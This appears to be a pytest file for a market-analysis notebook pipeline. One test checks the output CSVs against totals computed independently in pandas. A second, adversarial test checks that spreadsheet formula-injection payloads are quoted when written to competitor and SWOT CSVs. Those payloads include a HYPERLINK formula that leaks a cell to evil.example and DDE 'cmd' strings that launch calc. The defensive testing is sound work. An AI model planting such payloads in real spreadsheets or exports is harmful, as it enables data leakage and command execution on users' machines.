"""The market notebook (notebooks/01_market_analysis) run through the runner on the small sample: its artefacts
agree with independent pandas."""

from __future__ import annotations

import pandas as pd
import pytest

from planning import contracts


@pytest.mark.slow
def test_notebook_writes_artefacts_that_agree_with_pandas(small_sample, tmp_path):
    from planning import data, params, runner

    result = runner.run(
        regions=["east"], steps=["01"], data_dir=str(small_sample), out_root=tmp_path, workers=1
    )
    assert result.ok, result.results
    art = result.snapshot / "east" / "artifacts"
    for name in ("market_trend", "seasonality", "segments", "market_share", "competitors", "swot"):
        df = pd.read_csv(art / f"{name}.csv")
        assert set(contracts.required_columns(name)) <= set(df.columns), name
    p = params.load("east").params
    t = data.load_tables(small_sample, region="east", as_of=p.as_of)
    # Independent pandas: every order line's amount is in the trend; L12M share = L12M sales / day-weighted TAM.
    trend = pd.read_csv(art / "market_trend.csv")
    assert trend["sales"].sum() == pytest.approx(t.orders["amount"].sum(), rel=1e-9)
    season = pd.read_csv(art / "seasonality.csv")
    assert len(season) == 12 and season["index"].sum() == pytest.approx(12.0, abs=1e-9)
    share = pd.read_csv(art / "market_share.csv").set_index("segment")
    start = pd.Timestamp(p.as_of) - pd.DateOffset(years=1) + pd.Timedelta(days=1)
    l12m = t.orders.loc[t.orders["order_date"] >= start, "amount"].sum()
    assert share.loc["total", "our_sales"] == pytest.approx(l12m, rel=1e-6)
    ms = t.market_size.groupby("year")["market_size"].sum()
    days_prev = (pd.Timestamp(p.as_of.year - 1, 12, 31) - start).days + 1
    tam = ms[p.as_of.year - 1] * days_prev / 365 + ms[p.as_of.year] * (365 - days_prev) / 365
    assert share.loc["total", "market_size"] == pytest.approx(tam, rel=1e-6)
    inc = pd.read_csv(art / "market_increment.csv")
    assert list(inc.columns[:4]) == ["source", "segment_or_dimension", "amount", "explanation"]
    assert (inc["amount"] > 0).all()


@pytest.mark.slow
@pytest.mark.adversarial
def test_formula_texts_in_params_reach_the_csv_artefacts_quoted(small_sample, tmp_path):
    """Issue 18 case 7: competitor names and SWOT items that a spreadsheet would run as formulas reach
    competitors.csv and swot.csv with a leading quote; the step reads them back as written."""
    from frames_params import params_copy

    from planning import runner, store

    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
    dde = "+cmd|' /C calc'!A0"
    pdir = params_copy(
        tmp_path,
        east=(
            "region: {name: East China, name_zh: 华东}\n"
            "market:\n"
            "  competitors:\n"
            f"    - name: {dde!r}\n"
            "      scores: {price: 2.0, product: 4.5, service: 2.0, channel: 4.0, brand: 4.5}\n"
            "    - name: '@SUM(1+1)*cmd'\n"
            "      scores: {price: 4.5, product: 2.5, service: 2.5, channel: 3.5, brand: 2.0}\n"
            "  swot:\n"
            f"    S: [{{en: {link!r}, zh: {link!r}}}]\n"
            "    W: [{en: '-2+3+cmd|'' /C calc''!A0', zh: '-2+3'}]\n"
            "    O: [{en: Subsidies, zh: 补贴}]\n"
            "    T: [{en: Price war, zh: 价格战}]\n"
        ),
    )
    result = runner.run(regions=["east"], steps=["01"], data_dir=str(small_sample), out_root=tmp_path / "out",
                        workers=1, params_dir=pdir)  # fmt: skip
    assert result.ok, [r.error for r in result.results if r.error]
    region = result.snapshot / "east"
    for name in ("competitors", "swot"):
        cells = pd.read_csv(store.artifact_path(region, name), dtype=str, keep_default_na=False)
        text = [v for c in cells.columns for v in cells[c].tolist()]
        leading = [v for v in text if v[:1] in ("=", "+", "@", "\t", "\r") or (v[:1] == "-" and "cmd" in v)]
        assert not leading, f"{name}.csv: {leading}"
    competitors = store.read_artifact(region, "competitors")
    assert {dde, "@SUM(1+1)*cmd"} <= set(competitors["competitor"])
    swot = store.read_artifact(region, "swot")
    assert link in swot["item"].tolist() and "-2+3+cmd|' /C calc'!A0" in swot["item"].tolist()
    raw = store.artifact_path(region, "swot").read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/' in raw
